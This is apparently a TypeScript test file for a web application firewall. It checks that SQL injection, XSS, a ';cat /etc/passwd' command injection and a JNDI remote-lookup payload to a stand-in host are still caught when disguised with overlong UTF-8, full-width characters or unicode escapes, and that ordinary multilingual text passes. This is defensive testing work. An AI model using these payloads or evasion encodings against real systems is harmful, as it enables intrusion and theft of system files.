import { expect, test } from "bun:test";
import { explainWaf } from "../../../../src/features/waf/waf-explanation.ts";
import { NO_ROUTES } from "./vector-request.ts";
import { ENFORCE } from "./waf-settings.ts";

const ATTACKS = ["1' or '1'='1", "<script>alert(1)</script>", ";cat /etc/passwd", "${jndi:ldap://x.test/a}"];

/** A character of ASCII in so many bytes of UTF-8, where one is due. */
function overlong(width: number): (character: string) => number[] {
  const leads: Readonly<Record<number, number>> = { 2: 0xc0, 3: 0xe0, 4: 0xf0, 5: 0xf8, 6: 0xfc };
  return (character) => {
    const code = character.charCodeAt(0);
    const tail = [0x80 | (code >> 6), 0x80 | (code & 0x3f)];
    if (width === 2) return [0xc0 | (code >> 6), tail[1]!];
    return [leads[width]!, ...Array.from({ length: width - 3 }, () => 0x80), ...tail];
  };
}

const text = (write: (code: number) => string) => (character: string) => [
  ...Buffer.from(write(character.charCodeAt(0))),
];
const SPELLINGS: Readonly<Record<string, (character: string) => number[]>> = {
  "overlong, two bytes": overlong(2),
  "overlong, three bytes": overlong(3),
  "overlong, four bytes": overlong(4),
  "overlong, five bytes": overlong(5),
  "overlong, six bytes": overlong(6),
  "full-width": text((code) => String.fromCharCode(code === 0x20 ? code : code + 0xfee0)),
  "\\u{27}": text((code) => `\\u{${code.toString(16)}}`),
  "\\u0027": text((code) => `\\u${code.toString(16).padStart(4, "0")}`),
};

function escaped(bytes: readonly number[]): string {
  return bytes.map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
}

test.each(Object.entries(SPELLINGS))(
  "attacks whose marks are %s are found in a query, a path and a form",
  (_, spell) => {
    const passed = ATTACKS.flatMap((attack) => {
      const bytes = [...attack].flatMap((one) => (/[A-Za-z0-9]/.test(one) ? [one.charCodeAt(0)] : spell(one)));
      const value = escaped(bytes);
      const form = { headers: ["Content-Type: application/x-www-form-urlencoded"], body: Buffer.from(`q=${value}`) };
      const questions = [
        { method: "GET", target: `/x?q=${value}`, headers: [], body: new Uint8Array(0) },
        { method: "GET", target: `/x/${value}`, headers: [], body: new Uint8Array(0) },
        { method: "POST", target: "/x", ...form },
      ];
      return questions
        .filter((one) => explainWaf(one, ENFORCE, NO_ROUTES).score < 5)
        .map(({ target }) => [attack, target]);
    });
    expect(passed).toEqual([]);
  },
);

test("ordinary texts in scripts whose characters begin alike pass", () => {
  for (const one of [
    "नमस्ते दुनिया",
    "สวัสดีชาวโลก",
    "こんにちは、世界",
    "你好，世界！",
    "🎉 à la carte 🎉",
    "l’été à Genève",
  ]) {
    const target = `/x/${encodeURIComponent(one)}?q=${encodeURIComponent(one)}`;
    expect([
      one,
      explainWaf({ method: "GET", target, headers: [], body: new Uint8Array(0) }, ENFORCE, NO_ROUTES).score,
    ]).toEqual([one, 0]);
  }
});
